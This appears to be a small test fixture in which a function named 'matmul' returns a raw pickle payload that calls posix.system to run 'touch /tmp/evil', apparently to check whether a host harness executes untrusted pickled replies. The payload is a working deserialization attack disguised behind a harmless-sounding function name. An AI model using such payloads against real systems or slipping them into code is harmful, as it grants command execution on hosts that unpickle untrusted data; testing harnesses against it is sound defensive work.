#: does: answers with a pickle that would start a program on the host
#: ends: protocol
from witness import write_raw


def matmul(a, b):
    write_raw(b"cposix\nsystem\n(S'touch /tmp/evil'\ntR.")
